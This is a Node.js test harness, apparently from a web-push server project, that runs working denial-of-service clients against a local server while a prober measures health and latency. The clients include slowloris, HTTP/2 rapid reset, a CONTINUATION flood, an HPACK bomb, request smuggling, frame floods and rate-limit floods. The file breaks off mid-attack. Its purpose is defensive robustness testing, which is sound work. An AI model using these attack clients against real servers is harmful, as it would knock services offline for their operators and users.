// Attack clients against a running pushsvc, each run while a well-behaved client does push
// round trips (tests/attack/README.md). Node's own net/tls/http2 modules and raw frames only.
//
//   node attacks.mjs --clear HOST:PORT --tls HOST:PORT --pid PID [--short] [--only a,b]
//                    [--rss-mb N] [--p99-ms N] [--max-ms N] [--list]
//
// For every attack: the attack runs for its duration (short form ~3 s, long form ~15 s)
// while the prober (below) subscribes over HTTP/2, monitors its subscription (RFC 8030 §6)
// and pushes to itself back to back; afterwards it asserts
//   - the pushsvc process is alive and answers GET /health;
//   - its VmRSS, sampled every 100 ms from /proc/PID/status, stayed under --rss-mb;
//   - the prober's round trips (POST /push -> server push received) had p99 under --p99-ms
//     and max under --max-ms, with at least a minimum number completed and none lost;
//   - the attack's own expectation (e.g. that the server answered 400 and closed).
// Exit status 1 when any assertion fails; one line per attack either way.
//
// Adding an attack: one entry in ATTACKS, `name: { what, run: async (ctx) => {...} }`. `run`
// keeps attacking until ctx.deadline (or ctx.stopped()), registers every socket it opens with
// ctx.track(socket) (all are destroyed at the end) and returns an object of observations;
// failed expectations are reported with ctx.fail(text). Rate-limit attacks (push, subscribe,
// hello floods) belong here too: they are added with the `limits`/`rate` keys that govern
// them (see the comment above RATE_LIMIT_ATTACKS).

import net from 'node:net';
import tls from 'node:tls';
import http2 from 'node:http2';
import fs from 'node:fs';
import crypto from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';

// ---- arguments -----------------------------------------------------------------------------
const args = process.argv.slice(2);
const opt = (name, dflt) => {
    const i = args.indexOf(`--${name}`);
    return i >= 0 ? args[i + 1] : dflt;
};
const SHORT = args.includes('--short');
const CLEAR = opt('clear');
const TLS = opt('tls');
const PID = Number(opt('pid', '0'));
const RSS_MB = Number(opt('rss-mb', '100'));
const P99_MS = Number(opt('p99-ms', '400'));
const MAX_MS = Number(opt('max-ms', '1000'));
const DURATION_MS = Number(opt('duration-ms', SHORT ? '3000' : '15000'));
// An attack lasts its nominal duration and then until the prober has measured its minimum
// number of round trips (5 per second of the duration): on a loaded box the window stretches
// instead of failing on a count. Never longer than this: a prober that cannot get its minimum
// in three times the duration is starved, and the attack fails.
const MIN_ROUND_TRIPS = Math.max(5, Math.floor(DURATION_MS / 1000) * 5);
const MAX_ATTACK_MS = 3 * DURATION_MS;
const ONLY = opt('only', '') ? opt('only').split(',') : null;

const [clearHost, clearPort] = (CLEAR ?? '127.0.0.1:0').split(':');
const [tlsHost, tlsPort] = (TLS ?? '127.0.0.1:0').split(':');

// Attack traffic comes from other loopback addresses than the prober's 127.0.0.1, as a
// hostile client would from its own address (per-address limits apply to it, not to us).
let nextSource = Number(opt('source-base', '2'));
const newSource = () => `127.0.0.${nextSource++}`;

// ---- helpers -------------------------------------------------------------------------------
function rssKb(pid) {
    try {
        const m = /VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
        return m ? Number(m[1]) : null;
    } catch {
        return null;  // process gone
    }
}

function alive(pid) {
    try {
        process.kill(pid, 0);
        return true;
    } catch {
        return false;
    }
}

function percentile(sorted, p) {
    if (sorted.length === 0) return NaN;
    return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)];
}

// A TCP connection from `source` to the cleartext listener; resolves once connected (or
// rejects on error). Errors after that are ignored: the server closing on us is expected.
function connect(source, { port = clearPort, host = clearHost } = {}) {
    return new Promise((resolve, reject) => {
        const s = net.connect({ host, port: Number(port), localAddress: source });
        s.once('connect', () => {
            s.on('error', () => {});
            resolve(s);
        });
        s.once('error', reject);
    });
}

// Resolves when the socket is closed by the other side (or after `ms`, with false).
function closedWithin(s, ms) {
    return new Promise((resolve) => {
        if (s.destroyed || s.readableEnded) return resolve(true);
        const t = setTimeout(() => resolve(false), ms);
        s.once('close', () => {
            clearTimeout(t);
            resolve(true);
        });
    });
}

// Collects what a socket receives (up to 64 KiB kept).
function collect(s) {
    const box = { data: Buffer.alloc(0) };
    s.on('data', (d) => {
        if (box.data.length < 65536) box.data = Buffer.concat([box.data, d]);
    });
    return box;
}

// ---- HTTP/2 raw frames (RFC 9113 §4) and a minimal HPACK encoder (RFC 7541) ----------------
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const T = { DATA: 0, HEADERS: 1, PRIORITY: 2, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7,
            WINDOW_UPDATE: 8, CONTINUATION: 9 };
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
    const h = Buffer.alloc(9);
    h.writeUIntBE(payload.length, 0, 3);
    h[3] = type;
    h[4] = flags;
    h.writeUInt32BE(stream & 0x7fffffff, 5);
    return Buffer.concat([h, payload]);
}
const settings = (pairs = []) => {
    const p = Buffer.alloc(6 * pairs.length);
    pairs.forEach(([id, v], i) => {
        p.writeUInt16BE(id, 6 * i);
        p.writeUInt32BE(v, 6 * i + 2);
    });
    return frame(T.SETTINGS, 0, 0, p);
};
function hpackInt(value, prefixBits, firstByte) {
    const max = (1 << prefixBits) - 1;
    if (value < max) return Buffer.from([firstByte | value]);
    const out = [firstByte | max];
    value -= max;
    while (value >= 128) {
        out.push((value & 0x7f) | 0x80);
        value >>= 7;
    }
    out.push(value);
    return Buffer.from(out);
}
const hpackStr = (s) => {
    const b = Buffer.from(s);
    return Buffer.concat([hpackInt(b.length, 7, 0), b]);
};
// Literal field without indexing, new name (RFC 7541 §6.2.2).
const literal = (name, value) => Buffer.concat([Buffer.from([0]), hpackStr(name), hpackStr(value)]);
// A request header block: static-table pseudo-headers (:method GET 2 / POST 3, :scheme http 6)
// plus :path and :authority as literals.
function requestBlock(method, path, extra = []) {
    return Buffer.concat([
        Buffer.from([method === 'POST' ? 0x83 : 0x82, 0x86]),
        literal(':path', path),
        literal(':authority', 'localhost'),
        ...extra.map(([n, v]) => literal(n, v)),
    ]);
}
const END_STREAM = 0x1, END_HEADERS = 0x4, ACK = 0x1;

// An h2c connection with the preface and SETTINGS sent; `initial` adds SETTINGS pairs.
async function h2raw(source, initial = []) {
    const s = await connect(source);
    s.write(Buffer.concat([PREFACE, settings(initial)]));
    return s;
}

// ---- the well-behaved client ---------------------------------------------------------------
// Subscribes, monitors the subscription over HTTP/2 (server push) and pushes to it, one push
// at a time: a round trip is the time from sending POST /push/<token> to receiving its
// PUSH_PROMISE'd message. Every 10th push goes over a new connection, so a listener that
// stopped accepting shows up too. Each delivered message is acknowledged (DELETE, §6.2).
class Prober {
    constructor() {
        this.samples = [];
        this.lost = 0;
        this.errors = [];
    }

    async start() {
        this.monitor = http2.connect(`http://${CLEAR}`);
        this.monitor.on('error', (e) => this.errors.push(`monitor: ${e.message}`));
        const sub = await this.request(this.monitor, { ':method': 'POST', ':path': '/subscribe' });
        if (sub.status !== 201) throw new Error(`subscribe: ${sub.status}`);
        const link = /<([^>]+)>;\s*rel="urn:ietf:params:push"/.exec(sub.headers.link)[1];
        this.pushPath = new URL(link).pathname;
        const subPath = new URL(sub.headers.location).pathname;
        this.waiter = null;
        this.monitor.on('stream', (pushed, headers) => {
            pushed.on('error', () => {});
            pushed.on('push', () => {});
            pushed.resume();
            const path = headers[':path'];
            const w = this.waiter;
            this.waiter = null;
            if (w) w(performance.now());
            const ack = this.monitor.request({ ':method': 'DELETE', ':path': path });
            ack.on('error', () => {});
            ack.resume();
            ack.end();
        });
        const mon = this.monitor.request({ ':method': 'GET', ':path': subPath });
        mon.on('error', (e) => this.errors.push(`monitor stream: ${e.message}`));
        mon.resume();
        this.sender = null;
    }

    request(session, headers, body) {
        return new Promise((resolve, reject) => {
            const req = session.request(headers);
            let status = 0;
            let resHeaders = {};
            req.on('response', (h) => {
                status = h[':status'];
                resHeaders = h;
            });
            req.on('error', reject);
            req.setEncoding('utf8');
            let data = '';
            req.on('data', (d) => (data += d));
            req.on('end', () => resolve({ status, headers: resHeaders, body: data }));
            req.end(body);
        });
    }

    async roundTrip(n) {
        if (!this.sender || n % 10 === 0) {
            this.sender?.close();
            this.sender = http2.connect(`http://${CLEAR}`);
            this.sender.on('error', (e) => this.errors.push(`sender: ${e.message}`));
        }
        const t0 = performance.now();
        const delivered = new Promise((resolve) => (this.waiter = resolve));
        const timeout = sleep(MAX_MS * 5).then(() => null);
        const res = await Promise.race([
            this.request(this.sender, { ':method': 'POST', ':path': this.pushPath, ttl: '60' }),
            timeout,
        ]).catch((e) => ({ status: `error ${e.message}` }));
        if (!res || res.status !== 201) {
            this.waiter = null;
            this.lost++;
            this.errors.push(`push answered ${res ? res.status : 'nothing in time'}`);
            this.sender?.destroy();
            this.sender = null;
            return;
        }
        const t1 = await Promise.race([delivered, timeout]);
        if (t1 === null) {
            this.waiter = null;
            this.lost++;
            this.errors.push('message not delivered in time');
            return;
        }
        this.samples.push(t1 - t0);
    }

    // Round trips until stop() is called; returns the latency figures of this window.
    async run(shouldStop) {
        this.samples = [];
        this.lost = 0;
        this.errors = [];
        let n = 0;
        while (!shouldStop(this.samples.length)) {
            await this.roundTrip(n++);
            await sleep(20);  // ~40 round trips per second: a steady, modest sender
        }
        const s = [...this.samples].sort((a, b) => a - b);
        return { count: s.length, lost: this.lost, p50: percentile(s, 50), p99: percentile(s, 99),
                 max: s.length ? s[s.length - 1] : NaN, errors: this.errors.slice(0, 3) };
    }

    close() {
        this.sender?.destroy();
        this.monitor?.destroy();
    }
}

// ---- attacks -------------------------------------------------------------------------------
// Each: { what, run(ctx) } (see the top of this file). Expectations that hold for every
// request of an attack are checked on a sample so the checks cost the attacker little.
const ATTACKS = {
    // RFC 9112 §7.1.1: a chunk extension with no end. The server must stop reading at its
    // bound (1 KiB) with a 400 chunk_metadata and close, not buffer it.
    h1_chunk_extension: {
        what: 'HTTP/1.1 chunk extension without end',
        async run(ctx) {
            const src = newSource();
            let refused = 0;
            const junk = Buffer.alloc(16 * 1024, 'a');
            await ctx.parallel(20, async () => {
                const s = ctx.track(await connect(src));
                const got = collect(s);
                s.write('POST /push/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;');
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    if (!s.write(junk)) await new Promise((r) => s.once('drain', r).once('close', r));
                }
                await closedWithin(s, 2000);
                if (/^HTTP\/1.1 400/.test(got.data.toString())) refused++;
                s.destroy();
            }, { repeat: true });
            if (refused === 0) ctx.fail('never answered 400');
            return { refused };
        },
    },
    // RFC 9112 §7.1.2: endless trailer fields after the last chunk.
    h1_trailer: {
        what: 'HTTP/1.1 endless trailer section',
        async run(ctx) {
            const src = newSource();
            let refused = 0;
            const line = Buffer.from('X-Trailer: ' + 'b'.repeat(200) + '\r\n');
            const lines = Buffer.concat(Array(64).fill(line));
            await ctx.parallel(20, async () => {
                const s = ctx.track(await connect(src));
                const got = collect(s);
                s.write('POST /push/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nz\r\n0\r\n');
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    if (!s.write(lines)) await new Promise((r) => s.once('drain', r).once('close', r));
                }
                await closedWithin(s, 2000);
                if (/^HTTP\/1.1 400/.test(got.data.toString())) refused++;
                s.destroy();
            }, { repeat: true });
            if (refused === 0) ctx.fail('never answered 400');
            return { refused };
        },
    },
    // Slowloris: many connections each dripping a request head a few bytes at a time, so
    // none ever completes. Bounded by the per-address limit and first_request_timeout_ms.
    h1_slowloris: {
        what: 'HTTP/1.1 slowloris (200 connections dripping headers)',
        async run(ctx) {
            const src = newSource();
            const socks = [];
            for (let i = 0; i < 200 && !ctx.stopped(); i++) {
                const s = ctx.track(await connect(src).catch(() => null));
                if (!s) continue;
                s.write('POST /push/x HTTP/1.1\r\nHost: a\r\n');
                socks.push(s);
            }
            let k = 0;
            while (!ctx.stopped()) {
                for (const s of socks) if (!s.destroyed) s.write(`X-${k}: y\r\n`);
                k++;
                await sleep(250);
            }
            return { connections: socks.length, still_open: socks.filter((s) => !s.destroyed).length };
        },
    },
    // A request line and a header block far over max_header_bytes: 431/414/400, then close.
    h1_oversized_head: {
        what: 'HTTP/1.1 oversized request line and headers',
        async run(ctx) {
            const src = newSource();
            const statuses = {};
            const longLine = `GET /${'p'.repeat(100 * 1024)} HTTP/1.1\r\nHost: a\r\n\r\n`;
            const bigHeaders = `GET /health HTTP/1.1\r\nHost: a\r\n${'X-Big: ' + 'h'.repeat(8000) + '\r\n'}`.repeat(1) +
                Array(16).fill('X-Big: ' + 'h'.repeat(8000) + '\r\n').join('') + '\r\n';
            let i = 0;
            await ctx.parallel(10, async () => {
                const s = ctx.track(await connect(src));
                const got = collect(s);
                s.write(i++ % 2 ? longLine : bigHeaders);
                await closedWithin(s, 2000);
                const st = /^HTTP\/1.1 (\d+)/.exec(got.data.toString())?.[1] ?? 'none';
                statuses[st] = (statuses[st] ?? 0) + 1;
                s.destroy();
            }, { repeat: true });
            if (statuses['200']) ctx.fail('an oversized head was answered 200');
            return { statuses };
        },
    },
    // Request smuggling shape: Content-Length with Transfer-Encoding (RFC 9112 §6.1).
    h1_cl_te: {
        what: 'HTTP/1.1 Content-Length + Transfer-Encoding',
        async run(ctx) {
            const src = newSource();
            const statuses = {};
            const req = 'POST /push/x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n' +
                'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /health HTTP/1.1\r\nHost: a\r\n\r\n';
            await ctx.parallel(10, async () => {
                const s = ctx.track(await connect(src));
                const got = collect(s);
                s.write(req);
                await closedWithin(s, 2000);
                const text = got.data.toString();
                const st = /^HTTP\/1.1 (\d+)/.exec(text)?.[1] ?? 'none';
                statuses[st] = (statuses[st] ?? 0) + 1;
                // The smuggled second request must never be answered.
                if ((text.match(/HTTP\/1.1 /g) ?? []).length > 1) ctx.fail('smuggled request answered');
                s.destroy();
            }, { repeat: true });
            if (Object.keys(statuses).some((k) => k !== '400')) ctx.fail(`statuses ${JSON.stringify(statuses)}`);
            return { statuses };
        },
    },
    // CVE-2023-44487: open streams and reset them at once, as fast as possible.
    h2_rapid_reset: {
        what: 'HTTP/2 rapid reset',
        async run(ctx) {
            const src = newSource();
            let sent = 0;
            await ctx.parallel(4, async () => {
                const s = ctx.track(await h2raw(src));
                s.resume();
                let id = 1;
                while (!s.destroyed && !ctx.stopped() && id < 2 ** 30) {
                    const batch = [];
                    for (let k = 0; k < 100; k++, id += 2) {
                        batch.push(frame(T.HEADERS, END_HEADERS | END_STREAM, id, requestBlock('GET', '/health')));
                        batch.push(frame(T.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
                    }
                    sent += 100;
                    if (!s.write(Buffer.concat(batch))) await new Promise((r) => s.once('drain', r).once('close', r));
                }
                s.destroy();
            }, { repeat: true });
            return { streams_reset: sent };
        },
    },
    // HEADERS without END_HEADERS followed by CONTINUATION frames without end (2024
    // "CONTINUATION flood"): the header block must be bounded, not accumulated.
    h2_continuation_flood: {
        what: 'HTTP/2 CONTINUATION flood',
        async run(ctx) {
            const src = newSource();
            let closed = 0;
            const cont = frame(T.CONTINUATION, 0, 1, literal('x-c', 'c'.repeat(4000)));
            const many = Buffer.concat(Array(16).fill(cont));
            await ctx.parallel(8, async () => {
                const s = ctx.track(await h2raw(src));
                s.resume();
                s.write(frame(T.HEADERS, 0, 1, requestBlock('GET', '/health')));
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    if (!s.write(many)) await new Promise((r) => s.once('drain', r).once('close', r));
                }
                if (await closedWithin(s, 2000)) closed++;
                s.destroy();
            }, { repeat: true });
            if (closed === 0) ctx.fail('no connection was closed');
            return { closed };
        },
    },
    // HPACK bomb: one 4000-octet entry put into the dynamic table, then referenced by its
    // one-octet index thousands of times: a 16 KiB frame that decodes to tens of megabytes.
    h2_hpack_bomb: {
        what: 'HTTP/2 HPACK bomb',
        async run(ctx) {
            const src = newSource();
            let answered = 0;
            const insert = Buffer.concat([Buffer.from([0x40]), hpackStr('x-bomb'), hpackStr('B'.repeat(4000))]);
            const refs = Buffer.alloc(16000, 0xbe);  // indexed field 62: the entry just inserted
            await ctx.parallel(8, async () => {
                const s = ctx.track(await h2raw(src));
                const got = collect(s);
                let id = 1;
                while (!s.destroyed && !ctx.stopped() && id < 200) {
                    const block = Buffer.concat([requestBlock('GET', '/health'), insert, refs]);
                    s.write(frame(T.HEADERS, END_HEADERS | END_STREAM, id, block));
                    id += 2;
                    await sleep(5);
                }
                await closedWithin(s, 1000);
                answered += got.data.length > 0 ? 1 : 0;
                s.destroy();
            }, { repeat: true });
            return { connections_answered: answered };
        },
    },
    // Control-frame floods: each frame costs the server work (an ACK, a priority tree
    // update, window arithmetic) and the ACKs queue up if we never read.
    h2_settings_flood: floodOf('SETTINGS', () => settings([[3, 100]])),
    h2_ping_flood: floodOf('PING', () => frame(T.PING, 0, 0, crypto.randomBytes(8))),
    h2_priority_flood: floodOf('PRIORITY', (i) =>
        frame(T.PRIORITY, 0, 2 * (i % 1000) + 1, Buffer.from([0, 0, 0, 0, 16]))),
    h2_window_update_flood: floodOf('WINDOW_UPDATE', () =>
        frame(T.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]))),
    // Many responses the peer never lets through: SETTINGS_INITIAL_WINDOW_SIZE = 0, then
    // requests whose answers have a body (a 404 with its JSON error: what any outsider can
    // get; /metrics is not served to outsiders); the server must neither keep them forever
    // (write_stall_timeout_ms) nor let them hold up others.
    h2_zero_window: {
        what: 'HTTP/2 zero window, stalled responses',
        async run(ctx) {
            const src = newSource();
            let streams = 0;
            await ctx.parallel(20, async () => {
                const s = ctx.track(await h2raw(src, [[4, 0]]));
                s.resume();
                let id = 1;
                const frames = [];
                for (let k = 0; k < 100; k++, id += 2)
                    frames.push(frame(T.HEADERS, END_HEADERS | END_STREAM, id, requestBlock('GET', `/stalled/${id}`)));
                streams += 100;
                s.write(Buffer.concat(frames));
                while (!s.destroyed && !ctx.stopped()) await sleep(100);
                s.destroy();
            });
            return { stalled_streams: streams };
        },
    },
    // A client that sends requests and never reads a byte: the server's output for it must be
    // bounded (TCP buffers fill, then nghttp2 stops producing; the buffer budget caps the sum).
    h2_never_reading: {
        what: 'HTTP/2 client that never reads',
        async run(ctx) {
            const src = newSource();
            let sent = 0;
            await ctx.parallel(10, async () => {
                const s = ctx.track(await h2raw(src, [[4, 1 << 30]]));
                s.pause();  // never read
                let id = 1;
                while (!s.destroyed && !ctx.stopped() && id < 20000) {
                    const frames = [];
                    for (let k = 0; k < 50; k++, id += 2)
                        frames.push(frame(T.HEADERS, END_HEADERS | END_STREAM, id, requestBlock('GET', `/unread/${id}`)));
                    sent += 50;
                    if (!s.write(Buffer.concat(frames))) break;  // it stopped reading us too
                    await sleep(20);
                }
                while (!s.destroyed && !ctx.stopped()) await sleep(100);
                s.destroy();
            });
            return { requests: sent };
        },
    },
    // Request bodies that never end: every stream of many connections sends a body just
    // under max_body_bytes and no END_STREAM, so the server holds 128 x 4 KiB per connection
    // until read_timeout_ms. Bounded per connection by the limits, and in sum by
    // limits.max_buffer_bytes (the largest holders are shed when it is exceeded).
    h2_slow_bodies: {
        what: 'HTTP/2 request bodies that never end',
        async run(ctx) {
            const src = newSource();
            let streams = 0;
            const body = Buffer.alloc(4000, 0x62);
            await ctx.parallel(20, async () => {
                const s = ctx.track(await h2raw(src, [[4, 1 << 20]]));
                s.resume();
                const frames = [];
                for (let id = 1; id < 256; id += 2) {
                    frames.push(frame(T.HEADERS, END_HEADERS, id, requestBlock('POST', '/push/x', [['ttl', '60']])));
                    frames.push(frame(T.DATA, 0, id, body));
                }
                streams += 128;
                s.write(Buffer.concat(frames));
                while (!s.destroyed && !ctx.stopped()) await sleep(100);
                s.destroy();
            });
            return { open_bodies: streams };
        },
    },
    // One source address opening connections as fast as it can (more than the per-address
    // limit) and holding them: the others must still get in.
    conn_flood_one_source: {
        what: 'connection flood from one address',
        async run(ctx) {
            const src = newSource();
            let opened = 0;
            let refused = 0;
            await ctx.parallel(50, async () => {
                const s = await connect(src).catch(() => null);
                if (!s) return void refused++;
                ctx.track(s);
                opened++;
                if (await closedWithin(s, 50)) refused++;  // reset right after accept
            }, { repeat: true, maxTracked: 600 });
            if (refused === 0) ctx.fail('the per-address limit never refused a connection');
            return { opened, refused };
        },
    },
    // h2c prior knowledge with the 24-octet preface dripped one octet per 300 ms.
    h2c_slow_preface: {
        what: 'slow h2c preface (100 connections)',
        async run(ctx) {
            const src = newSource();
            const socks = [];
            for (let i = 0; i < 100 && !ctx.stopped(); i++) {
                const s = await connect(src).catch(() => null);
                if (s) socks.push(ctx.track(s));
            }
            let k = 0;
            while (!ctx.stopped()) {
                for (const s of socks) if (!s.destroyed) s.write(PREFACE.subarray(k % 24, (k % 24) + 1));
                k++;
                await sleep(300);
            }
            return { connections: socks.length, still_open: socks.filter((s) => !s.destroyed).length };
        },
    },
    // WebSocket: a frame announcing a 1 GiB payload (and starting to send it), over the
    // message limit: the server must close (1009), not buffer.
    ws_oversized: {
        what: 'WebSocket oversized frames',
        async run(ctx) {
            const src = newSource();
            let closed = 0;
            const chunk = Buffer.alloc(64 * 1024, 0x41);
            await ctx.parallel(10, async () => {
                const s = ctx.track(await wsConnect(src));
                if (!s) return;
                const head = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0x40, 0, 0, 0, 1, 2, 3, 4]);  // 1 GiB, masked
                s.write(head);
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    if (!s.write(chunk)) await new Promise((r) => s.once('drain', r).once('close', r));
                }
                if (await closedWithin(s, 2000)) closed++;
                s.destroy();
            }, { repeat: true });
            if (closed === 0) ctx.fail('no oversized connection was closed');
            return { closed };
        },
    },
    // WebSocket: malformed frames (unmasked, reserved opcodes and bits, bad UTF-8,
    // fragmented control frames, random bytes).
    ws_malformed: {
        what: 'WebSocket malformed frames',
        async run(ctx) {
            const src = newSource();
            let closed = 0;
            const bad = [
                Buffer.from([0x81, 0x05, 0x68, 0x65, 0x6c, 0x6c, 0x6f]),        // unmasked
                Buffer.from([0x83, 0x80, 1, 2, 3, 4]),                          // reserved opcode 3
                Buffer.from([0xf1, 0x80, 1, 2, 3, 4]),                          // RSV bits
                Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0xc3, 0x28]),              // invalid UTF-8
                Buffer.from([0x09, 0x80, 0, 0, 0, 0]),                          // fragmented ping
                Buffer.from([0x89, 0xfe, 0x01, 0x00, 0, 0, 0, 0]),              // 256-octet ping
            ];
            let i = 0;
            await ctx.parallel(10, async () => {
                const s = ctx.track(await wsConnect(src));
                if (!s) return;
                s.write(i % 7 === 6 ? crypto.randomBytes(512) : bad[i % 6]);
                i++;
                if (await closedWithin(s, 2000)) closed++;
                s.destroy();
            }, { repeat: true });
            if (closed === 0) ctx.fail('no malformed connection was closed');
            return { closed };
        },
    },
    // WebSocket: hello, then registers as fast as possible (max_subscriptions_per_ua caps
    // what one UA holds; each register is a store write).
    ws_register_flood: {
        what: 'WebSocket register flood',
        async run(ctx) {
            const src = newSource();
            let registers = 0;
            await ctx.parallel(4, async () => {
                const s = ctx.track(await wsConnect(src));
                if (!s) return;
                s.resume();
                s.write(wsText(JSON.stringify({ messageType: 'hello', use_webpush: true })));
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    const frames = [];
                    for (let k = 0; k < 50; k++)
                        frames.push(wsText(JSON.stringify({ messageType: 'register', channelID: crypto.randomUUID() })));
                    registers += 50;
                    if (!s.write(Buffer.concat(frames))) await new Promise((r) => s.once('drain', r).once('close', r));
                    await sleep(10);
                }
                s.destroy();
            }, { repeat: true });
            return { registers };
        },
    },
    // Endpoint tokens with flipped characters, truncated or random: each must be a 404 (the
    // token's authentication fails), never a 201 or a 5xx.
    tampered_tokens: {
        what: 'tampered endpoint tokens',
        async run(ctx) {
            const statuses = {};
            const good = ctx.prober.pushPath.slice('/push/'.length);
            const src = newSource();
            await ctx.parallel(4, async () => {
                const session = http2.connect(`http://${CLEAR}`, { localAddress: src });
                session.on('error', () => {});
                ctx.track(session);
                for (let k = 0; k < 200 && !ctx.stopped(); k++) {
                    const t = good.split('');
                    const r = Math.random();
                    let token;
                    if (r < 0.5) {
                        const i = Math.floor(Math.random() * t.length);
                        t[i] = t[i] === 'A' ? 'B' : 'A';
                        token = t.join('');
                    } else if (r < 0.75) token = good.slice(0, Math.floor(Math.random() * good.length));
                    else token = crypto.randomBytes(good.length).toString('base64url').slice(0, good.length);
                    if (token === good || token.length === 0) continue;
                    const st = await new Promise((resolve) => {
                        const req = session.request({ ':method': 'POST', ':path': `/push/${token}`, ttl: '60' });
                        req.on('response', (h) => resolve(h[':status']));
                        req.on('error', () => resolve('error'));
                        req.resume();
                        req.end();
                    });
                    statuses[st] = (statuses[st] ?? 0) + 1;
                }
                session.close();
            }, { repeat: true });
            if (Object.keys(statuses).some((k) => k !== '404')) ctx.fail(`statuses ${JSON.stringify(statuses)}`);
            return { statuses };
        },
    },
    // Full TLS handshakes (no resumption) as fast as the attacker can make them: the
    // expensive asymmetric work of the server.
    tls_handshake_flood: {
        what: 'TLS full-handshake flood',
        async run(ctx) {
            if (!TLS) return { skipped: 'no TLS listener' };
            const src = newSource();
            let handshakes = 0;
            await ctx.parallel(16, async () => {
                await new Promise((resolve) => {
                    const s = tls.connect({ host: tlsHost, port: Number(tlsPort), localAddress: src,
                                            rejectUnauthorized: false, ALPNProtocols: ['h2'],
                                            session: undefined });
                    ctx.track(s);
                    s.once('secureConnect', () => {
                        handshakes++;
                        s.destroy();
                        resolve();
                    });
                    s.once('error', () => resolve());
                    s.once('close', () => resolve());
                });
            }, { repeat: true });
            if (handshakes === 0) ctx.fail('no handshake completed');
            return { handshakes };
        },
    },
};

// Rate-limit attacks: run.sh configures [rate] with the limits below (RATE in run.sh), low
// enough for an attacker to meet them within a short run and far above the prober's use. Each
// asserts the refusals the limit promises (429 + Retry-After, or close 1013) and that no more
// was accepted than the bucket allows, besides the common checks.
const RATE = { push_per_min: 6000, push_burst: 500, subscribe_per_min: 120, subscribe_burst: 50,
               hello_per_min: 120, hello_burst: 50 };
const allowed = (ctx, perMin, burst) =>
    burst + Math.ceil(perMin * (performance.now() - ctx.started + 10000) / 60000);

// One HTTP/2 request on `session` -> {status, retryAfter, link}.
function h2request(session, headers) {
    return new Promise((resolve) => {
        const req = session.request(headers);
        req.on('response', (h) => resolve({ status: h[':status'], retryAfter: h['retry-after'], link: h.link }));
        req.on('error', () => resolve({ status: 'error' }));
        req.resume();
        req.end();
    });
}

// Counts statuses of `fn` results in `tally`; a 429 without Retry-After is a failure.
function tallyStatus(ctx, tally, r) {
    tally[r.status] = (tally[r.status] ?? 0) + 1;
    if (r.status === 429 && !(Number(r.retryAfter) >= 1)) ctx.fail(`429 without a usable Retry-After: ${r.retryAfter}`);
}

const RATE_LIMIT_ATTACKS = {
    // TTL-0 pushes as fast as possible from one address to its own subscription: TTL 0 skips
    // the queue cap, so the per-sender bucket is what stops it (R8030-8.4-b).
    push_flood: {
        what: 'TTL-0 push flood from one address',
        async run(ctx) {
            const src = newSource();
            const session = http2.connect(`http://${CLEAR}`, { localAddress: src });
            session.on('error', () => {});
            ctx.track(session);
            const sub = await h2request(session, { ':method': 'POST', ':path': '/subscribe' });
            const push = /<([^>]+)>;\s*rel="urn:ietf:params:push"/.exec(sub.link ?? '');
            if (!push) { ctx.fail(`no subscription: ${sub.status}`); return {}; }
            const path = new URL(push[1]).pathname;
            const tally = {};
            await ctx.parallel(8, async () => {
                for (let k = 0; k < 200 && !ctx.stopped(); k++)
                    tallyStatus(ctx, tally, await h2request(session, { ':method': 'POST', ':path': path, ttl: '0' }));
            }, { repeat: true });
            session.close();
            if (!tally[429]) ctx.fail(`no 429 in ${JSON.stringify(tally)}`);
            if ((tally[201] ?? 0) > allowed(ctx, RATE.push_per_min, RATE.push_burst))
                ctx.fail(`${tally[201]} pushes accepted, more than the bucket allows`);
            return { statuses: tally };
        },
    },
    // POST /subscribe as fast as possible from one address: each would be a stored user agent.
    subscribe_flood: {
        what: 'subscription flood from one address',
        async run(ctx) {
            const session = http2.connect(`http://${CLEAR}`, { localAddress: newSource() });
            session.on('error', () => {});
            ctx.track(session);
            const tally = {};
            await ctx.parallel(8, async () => {
                for (let k = 0; k < 200 && !ctx.stopped(); k++)
                    tallyStatus(ctx, tally, await h2request(session, { ':method': 'POST', ':path': '/subscribe' }));
            }, { repeat: true });
            session.close();
            if (!tally[429]) ctx.fail(`no 429 in ${JSON.stringify(tally)}`);
            if ((tally[201] ?? 0) > allowed(ctx, RATE.subscribe_per_min, RATE.subscribe_burst))
                ctx.fail(`${tally[201]} subscriptions created, more than the bucket allows`);
            return { statuses: tally };
        },
    },
    // WebSocket hellos without a uaid, reconnecting each time: every one would be a new user
    // agent with its own 500 subscriptions. Over the limit the server closes with 1013.
    hello_flood: {
        what: 'WebSocket hello flood (a new user agent each time)',
        async run(ctx) {
            const src = newSource();
            let hellos = 0, answered = 0, refused = 0;
            await ctx.parallel(4, async () => {
                const s = await wsConnect(src);
                if (!s) return;
                ctx.track(s);
                hellos++;
                const reply = await new Promise((resolve) => {
                    let buf = Buffer.alloc(0);
                    s.on('data', (d) => {
                        buf = Buffer.concat([buf, d]);
                        if (buf.length >= 2) {
                            const op = buf[0] & 0x0f;
                            if (op === 8 && buf.length >= 4) resolve(`close ${buf.readUInt16BE(2)}`);
                            else if (op === 1) resolve('text');
                        }
                    });
                    s.once('close', () => resolve('closed'));
                    setTimeout(() => resolve('timeout'), 3000);
                    s.write(wsText(JSON.stringify({ messageType: 'hello', use_webpush: true })));
                });
                if (reply === 'text') answered++;
                else if (reply === 'close 1013') refused++;
                s.destroy();
            }, { repeat: true });
